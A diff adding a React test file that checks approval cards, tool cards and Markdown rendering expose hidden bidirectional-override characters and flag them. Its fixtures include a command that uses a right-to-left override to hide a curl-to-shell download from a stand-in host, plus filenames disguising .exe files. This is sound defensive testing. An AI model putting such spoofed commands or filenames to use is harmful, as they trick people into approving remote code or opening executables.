@@ -1,0 +1,74 @@
+// The spoofs from the security review, rendered by the real components:
+// each hidden character shows as a <U+XXXX> badge, never as itself.
+import { fireEvent, render, screen } from "@testing-library/react";
+import { describe, expect, it, vi } from "vitest";
+import { ApprovalCard } from "../components/ApprovalCard";
+import { ToolCard } from "../components/ToolCard";
+import { renderMarkdown } from "../markdown/render";
+import type { ApprovalBlock, ToolBlock } from "../store/model";
+
+const RLO = "\u202E";
+const BIDI = /[\u202A-\u202E\u2066-\u2069]/;
+
+const spoofed: ApprovalBlock = {
+  kind: "approval",
+  key: "k",
+  seq: 1,
+  approvalId: "ap1",
+  title: "Run a shell command",
+  command: `ls -la ${RLO}hs.live/elpmaxe.live//:sptth | lruc ;`,
+  options: [
+    { id: "allow", label: "Allow once", kind: "allow_once" },
+    { id: "reject", label: "Deny", kind: "reject_once" },
+  ],
+};
+
+describe("spoofing with bidi controls", () => {
+  it("shows the approval's command as it really is and flags the card", () => {
+    const { container } = render(<ApprovalCard block={spoofed} active onChoose={vi.fn(async () => undefined)} />);
+    const cmd = container.querySelector(".approval-cmd")!;
+    expect(cmd.textContent).toBe("ls -la <U+202E>hs.live/elpmaxe.live//:sptth | lruc ;");
+    expect(cmd.textContent).not.toMatch(BIDI);
+    expect(cmd.querySelector(".invisible-char")?.getAttribute("title")).toContain("right-to-left override");
+    expect(screen.getByRole("alert").textContent).toMatch(/hidden or direction-changing characters/);
+    expect(container.querySelector("[data-hidden-chars]")).toBeTruthy();
+  });
+
+  it("does not flag an ordinary approval", () => {
+    render(<ApprovalCard block={{ ...spoofed, command: "ls -la" }} active onChoose={vi.fn(async () => undefined)} />);
+    expect(screen.queryByRole("alert")).toBeNull();
+  });
+
+  it("flags a hidden character in the title or description too", () => {
+    render(<ApprovalCard block={{ ...spoofed, command: "ls", title: `Edit ${RLO}txt.exe` }} active onChoose={vi.fn(async () => undefined)} />);
+    expect(screen.getByRole("alert")).toBeTruthy();
+    expect(screen.getByRole("heading").textContent).toBe("Edit <U+202E>txt.exe");
+  });
+
+  it("shows a tool card's path, arguments and output as they are", () => {
+    const block: ToolBlock = {
+      kind: "tool",
+      key: "t",
+      seq: 2,
+      toolCallId: "t1",
+      name: "write",
+      input: { path: `/home/u/${RLO}gnp.exe` },
+      output: `wrote /home/u/${RLO}gnp.exe`,
+      truncated: false,
+      status: "completed",
+    };
+    const { container } = render(<ToolCard block={block} />);
+    const arg = container.querySelector(".tool-arg")!;
+    expect(arg.textContent).toBe("/home/u/<U+202E>gnp.exe");
+    expect(arg.getAttribute("title")).toBe("/home/u/<U+202E>gnp.exe");
+    fireEvent.click(screen.getByRole("button"));
+    expect(container.querySelector(".tool-body")!.textContent).not.toMatch(BIDI);
+    expect(container.querySelector(".tool-output")!.textContent).toBe("wrote /home/u/<U+202E>gnp.exe");
+  });
+
+  it("shows them in Markdown, code and links included", () => {
+    const html = renderMarkdown(`see \`a${RLO}b\` and [x${RLO}y](https://e.example/) ${RLO}txt.exe\n\n\`\`\`\nrm ${RLO}x\n\`\`\``);
+    expect(html).not.toMatch(BIDI);
+    expect(html.match(/&lt;U\+202E&gt;/g)).toHaveLength(4);
+  });
+});
